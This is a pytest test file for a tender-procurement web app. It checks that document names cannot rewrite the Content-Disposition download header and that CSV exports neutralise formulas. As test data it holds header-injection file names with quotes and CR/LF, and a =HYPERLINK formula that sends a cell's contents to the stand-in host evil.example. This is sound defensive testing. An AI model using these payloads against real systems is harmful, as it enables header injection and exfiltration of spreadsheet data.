"""Safe downloads (issue: "Downloads"): file names cannot rewrite Content-Disposition,
bad names are refused at upload, and CSV cells are never formulas."""

import base64
import csv
import io
from email.message import Message

import pytest

from sahab.core.downloads import csv_safe
from sahab.procurement.models import Tender, TenderDocument
from tests import factories
from tests.procurement.conftest import PDF


@pytest.fixture
def published(published_tender) -> Tender:
    return published_tender


def upload(world, tender, name):
    """A published tender's documents come with an amendment."""
    return world["officer"].call("post", f"/tenders/{tender.reference}/amendments", {
        "rationale": "Nouvelle pièce.",
        "documents": [{"name": name, "content_base64": base64.b64encode(PDF).decode()}]})


@pytest.mark.parametrize("name", [
    'evil.html"; x=".pdf', "evil.pdf\r\nContent-Type: text/html", "tab\there.pdf",
    "evil.html;.pdf", ".hidden.pdf", "a<script>.pdf",
])
def test_a_document_name_that_would_rewrite_the_header_is_refused_at_upload(
        world, published, name):
    """The finding: a document name with quotes or CR/LF rewrote Content-Disposition
    (the file downloaded as evil.html) or gave a 500."""
    response = upload(world, published, name)
    assert response.status_code == 422, response.content
    assert "document name" in response.json()["detail"] or "plain file name" in \
        response.json()["detail"]
    assert not published.documents.exists()


def test_a_stored_name_is_encoded_by_django_and_cannot_change_the_download(
        world, published, client):
    """A name stored before uploads were checked is still sent safely."""
    assert upload(world, published, "Cahier des charges (v2) – l'appel.pdf").status_code == 201
    doc = published.documents.get()
    for stored in ('evil.html"; filename="evil.html', "evil.pdf\r\nX-Evil: 1"):
        TenderDocument.objects.filter(pk=doc.pk).update(name=stored)
        response = client.get(f"/tenders/{published.reference}/documents/{doc.pk}")
        assert response.status_code == 200
        header = response["Content-Disposition"]
        assert header.startswith("attachment; ")
        assert "\r" not in header and "\n" not in header and "X-Evil" not in response
        # what a client reads: one file name, the stored one (quotes escaped), not evil.html
        parsed = Message()
        parsed["Content-Disposition"] = header
        assert parsed.get_filename() == stored.replace("\r", "_").replace("\n", "_")
    TenderDocument.objects.filter(pk=doc.pk).update(name="Cahier des charges (v2) – l'appel.pdf")
    header = client.get(f"/tenders/{published.reference}/documents/{doc.pk}")[
        "Content-Disposition"]
    assert header.startswith("attachment; filename*=utf-8''")  # RFC 5987 for non-ASCII


def test_csv_exports_do_not_write_formulas(client, db):
    """The finding: CSV exports wrote =HYPERLINK(...) company names as formulas."""
    factories.company(name='=HYPERLINK("https://evil.example/?"&A1,"Cliquez")')
    factories.company(name="+216 71 000 000")
    factories.company(name="@SUM(A1:A9)")
    factories.company(name="-2+3")
    factories.company(name="\tTab SARL")
    response = client.get("/directory/companies/", {"format": "csv"})
    assert response["Content-Disposition"] == 'attachment; filename="sahab-companies.csv"'
    text = b"".join(response.streaming_content).decode()  # streamed as the rows come
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert names and all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Cliquez\")" in names


@pytest.mark.parametrize(("value", "safe"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-5.25", "-5.25"), ("-x", "'-x"), ("@a", "'@a"),
    ("\r=1", "'\r=1"), ("plain", "plain"), (3, 3), (None, None), ("1e-3", "1e-3"),
])
def test_csv_safe_keeps_numbers_and_neutralises_formulas(value, safe):
    assert csv_safe(value) == safe
